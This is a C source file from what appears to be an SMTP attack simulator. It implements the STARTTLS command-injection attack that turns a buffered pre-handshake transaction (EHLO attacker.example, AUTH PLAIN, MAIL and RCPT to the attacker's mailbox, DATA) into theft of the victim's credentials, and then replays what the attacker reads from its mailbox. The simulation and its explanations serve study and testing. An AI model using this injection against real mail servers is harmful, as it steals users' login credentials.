/* steal_credentials: command injection turned into credential theft (NO STARTTLS,
 * USENIX Security 2021, after Venema's CVE-2011-0411 advisory). Behind the client's
 * STARTTLS the attacker appends a whole transaction of its own — EHLO, AUTH with its own
 * account at the same provider, MAIL and RCPT to its own mailbox, DATA. A server that keeps
 * what it buffered before the handshake runs them inside TLS; its replies then answer the
 * victim's own commands one for one, and everything the victim sends after the handshake
 * — its EHLO, its AUTH line, its envelope, its message — becomes the text of a message
 * delivered to the attacker. Later the attacker reads it in its mailbox. */
#include "sim/attack/attack.h"

#include <stdio.h>
#include <string.h>
#include <strings.h>

#include "sim/base/base64.h"

static int inject(struct mitm *m, const uint8_t *line, size_t n)
{
	if (n < 8 || strncasecmp((const char *)line, "STARTTLS", 8))
		return 0;
	mitm_send(m, MITM_LEG_SERVER, SMTP_OUT_COMMAND, line, n, ATTACK_NONE);
	const char *user, *password, *mailbox;
	char text[1200];
	if (mitm_inject_text(m)) {
		snprintf(text, sizeof text, "%s", mitm_inject_text(m));
	} else if (mitm_account(m, &user, &password, &mailbox) == 0) {
		uint8_t plain[300];
		size_t ul = strlen(user), pl = strlen(password);
		char b64[420];
		if (ul + pl + 2 > sizeof plain)
			ul = pl = 0;
		plain[0] = 0;
		memcpy(plain + 1, user, ul);
		plain[1 + ul] = 0;
		memcpy(plain + 2 + ul, password, pl);
		base64_encode(plain, ul + pl + 2, b64, sizeof b64);
		snprintf(text, sizeof text, "EHLO attacker.example\nAUTH PLAIN %s\nMAIL FROM:<%s>\nRCPT TO:<%s>\nDATA",
			 b64, mailbox, mailbox);
	} else {
		mitm_fail_run(m, 0, "steal-credentials needs the attacker's own account: [mitm] account and mailbox");
		return 1;
	}
	mitm_inject(m, MITM_LEG_SERVER, SMTP_OUT_COMMAND, text);
	mitm_note(m, MITM_LEG_SERVER, ATTACK_ADDED,
		  "The attacker appends a whole transaction of its own behind STARTTLS: its own login, its own mailbox, DATA",
		  "If the server runs these after the handshake, its five replies answer the client's next "
		  "five commands, and the server then reads everything the client sends as the text of a "
		  "message to the attacker — the client's AUTH line included.");
	return 1;
}

/* Later: the attacker logs in to its own mailbox and reads what arrived. The message text
 * holds the victim's lines as the victim sent them: commands up to its DATA, then its
 * message. */
static void at_end(struct mitm *m)
{
	size_t len;
	const uint8_t *msg = mitm_mailbox(m, 0, &len);
	if (!msg)
		return;
	mitm_advance_clock(m, 60ULL * 1000000); /* a minute later */
	for (size_t i = 0; msg; msg = mitm_mailbox(m, ++i, &len)) {
		char s[160];
		snprintf(s, sizeof s, "Later: the attacker logs in to its own mailbox and reads message %zu (%zu bytes)", i + 1, len);
		mitm_note(m, MITM_LEG_CLIENT, ATTACK_RECORDED, s,
			  "The server stored the client's own commands as the text of a message to the attacker. "
			  "Inside TLS, the password was safe from the wire; the server itself handed it over.");
		struct mitm_replay *r = mitm_replay_open(m, REPLAY_MAILBOX);
		if (!r)
			return;
		size_t pos = 0;
		int text = 0;
		while (pos < len) {
			const uint8_t *nl = memchr(msg + pos, '\n', len - pos);
			size_t end = nl ? (size_t)(nl - msg) + 1 : len;
			if (text) {
				mitm_replay(r, 1, SMTP_OUT_BODY, msg + pos, len - pos);
				break;
			}
			if (mitm_replay(r, 1, SMTP_OUT_COMMAND, msg + pos, end - pos))
				break;
			if (end - pos >= 4 && !strncasecmp((const char *)msg + pos, "DATA", 4) &&
			    (end - pos == 4 || msg[pos + 4] == '\r' || msg[pos + 4] == '\n')) {
				mitm_replay_server_reads_text(r);
				text = 1;
			}
			pos = end;
		}
		mitm_replay_close(r);
	}
}

const struct attack attack_steal_credentials = {
	.name = "steal-credentials",
	.flags = ATTACK_F_HOP1_ONLY,
	.does = "injects a transaction to its own mailbox behind STARTTLS, so the client's AUTH line becomes a message it reads",
	.intro = "The attacker sits in the path, with an account of its own at the same provider, ready to inject behind STARTTLS",
	.client_line = inject,
	.at_end = at_end,
};
